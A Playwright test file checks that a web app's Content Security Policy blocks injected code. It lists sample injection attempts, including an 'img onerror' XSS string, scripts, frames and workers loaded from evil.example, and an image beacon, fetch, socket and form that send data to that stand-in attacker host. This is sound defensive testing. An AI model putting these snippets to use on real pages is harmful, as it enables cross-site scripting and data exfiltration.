// The policy of our pages: what it forbids is forbidden, told and seen by the watch of every other test.
import { expect, test } from './support/fixtures';

/** What somebody would try who got text onto a page, and the directive it meets. */
const TRIES = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('window.stolen = 1');
    document.body.append(script);
  },
  'a script of another site': () => {
    const script = document.createElement('script');
    script.setAttribute('src', 'https://evil.example/x.js');
    document.body.append(script);
  },
  'markup made of text': () => {
    document.body.innerHTML = '<img src=x onerror=alert(1)>';
  },
  'an event handler in an attribute': () => {
    document.body.setAttribute('onclick', 'window.stolen = 1');
    document.body.click();
  },
  'text as code': () => {
    window.setTimeout('window.stolen = 1');
  },
  'a style in an attribute': () => {
    document.body.setAttribute('style', 'display: none');
  },
  'a picture that tells another site': () => {
    new Image().src = 'https://evil.example/?secret';
  },
  'a request to another site': () => {
    void fetch('https://evil.example/').catch(() => undefined);
  },
  'a socket to another site': () => {
    new WebSocket('wss://evil.example/');
  },
  'a frame': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  },
  'another base': () => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  },
  'a form sent elsewhere': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
  },
  'a worker of another site': () => {
    new Worker('https://evil.example/worker.js');
  },
};

test('what a page must not do it cannot do, and every test would notice', async ({
  browser,
  relay,
  forbidden,
}) => {
  const context = await browser.newContext({ baseURL: relay.origin });
  const reached: string[] = [];
  await context.route(/evil\.example/, (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  const page = await context.newPage();
  for (const [what, attempt] of Object.entries(TRIES)) {
    await page.goto('/');
    await page.getByTestId('sign-in').waitFor();
    expect(forbidden, `before ${what}`).toEqual([]);
    await page.evaluate(attempt).catch(() => undefined);
    await expect.poll(() => forbidden.join(), { message: what }).toMatch(/policy|trusted/i);
    expect(await page.evaluate(() => 'stolen' in window), what).toBe(false);
    forbidden.length = 0;
  }
  expect(reached).toEqual([]);
  await context.close();
});
